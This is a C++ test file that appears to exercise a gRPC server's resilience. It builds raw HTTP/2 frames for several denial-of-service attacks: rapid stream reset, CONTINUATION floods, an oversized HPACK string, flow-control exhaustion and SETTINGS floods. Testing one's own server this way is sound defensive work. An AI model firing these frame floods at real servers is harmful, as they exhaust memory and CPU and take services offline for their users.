#include "tests/door/abuse.h"

namespace holdfast::testing {
namespace {

constexpr std::size_t kFrame = 16384;  // the longest that is allowed unasked
constexpr std::size_t kMost = 16 * 1024 * 1024;

void SendAgain(RawConnection& connection, const std::string& bytes) {
  for (std::size_t sent = 0; sent < kMost; sent += bytes.size())
    if (!connection.Send(bytes)) return;
}

// In batches of one TLS record at most.
void ResetAgain(RawConnection& connection, std::uint32_t first, const std::string& headers) {
  const std::string cancel("\0\0\0\x08", 4);
  for (std::size_t sent = 0; sent < kMost;) {
    std::string batch;
    for (; batch.size() + 300 < kFrame; first += 2)
      batch += Frame(FrameType::kHeaders, kEndHeaders, first, headers) + Frame(FrameType::kReset, 0, first, cancel);
    if (!connection.Send(batch)) return;
    sent += batch.size();
  }
}

}  // namespace

void RapidReset(RawConnection& connection, std::uint32_t first) {
  ResetAgain(connection, first, CallHeaders("/holdfast.v1.VaultService/GetVault"));
}

void RapidShortReset(RawConnection& connection, std::uint32_t first) {
  // Into the table, newest first from 62 on: te, content-type, :authority, :path.
  std::string add("\x44\x03/x/\x41\x05vault\x5f\x10" "application/grpc\x40\x02te\x08trailers", 43);
  if (!connection.Send(Frame(FrameType::kHeaders, kEndHeaders | kEndStream, first, "\x83\x87" + add))) return;
  ResetAgain(connection, first + 2, "\x83\x87\xc1\xc0\xbf\xbe");
}

void EndlessContinuation(RawConnection& connection, std::uint32_t first) {
  std::string block;
  while (block.size() + 64 < kFrame) block += std::string("\0\x04name\x20", 7) + std::string(32, 'v');
  if (connection.Send(Frame(FrameType::kHeaders, 0, first, CallHeaders("/x"))))
    SendAgain(connection, Frame(FrameType::kContinuation, 0, first, block));
}

void HugeString(RawConnection& connection, std::uint32_t first) {
  std::string start("\0\x01n\x7f", 4);  // a literal whose value is of
  start += "\x81\xff\xff\x7f";          // 256 MiB
  if (connection.Send(Frame(FrameType::kHeaders, 0, first, start)))
    SendAgain(connection, Frame(FrameType::kContinuation, 0, first, std::string(kFrame, 'v')));
}

void EndlessMessages(RawConnection& connection, std::uint32_t first) {
  constexpr std::size_t kMessage = 1024 * 1024 - 1;
  constexpr std::uint32_t kStreams = 100;
  const std::string begin = GrpcMessage(std::string(kMessage, 'm')).substr(0, kFrame);
  std::string more;
  for (std::uint32_t i = 0; i < kStreams; ++i) {
    const std::uint32_t stream = first + 2 * i;
    if (!connection.Send(Frame(FrameType::kHeaders, kEndHeaders, stream,
                               CallHeaders("/holdfast.v1.ImportService/ImportItem")) +
                         Frame(FrameType::kData, 0, stream, begin)))
      return;
    more += Frame(FrameType::kData, 0, stream, std::string(kFrame, 'm'));
  }
  for (std::size_t size = 2 * kFrame; size < kMessage; size += kFrame) {
    connection.Receive(1);  // windows, which open as the other side takes what came
    if (!connection.Send(more)) return;
  }
}

void EndlessSettings(RawConnection& connection, std::uint32_t /*first*/) {
  std::string batch;
  for (int i = 0; i < 1000; ++i) batch += Frame(FrameType::kSettings, 0, 0, "");
  SendAgain(connection, batch);
}

}  // namespace holdfast::testing
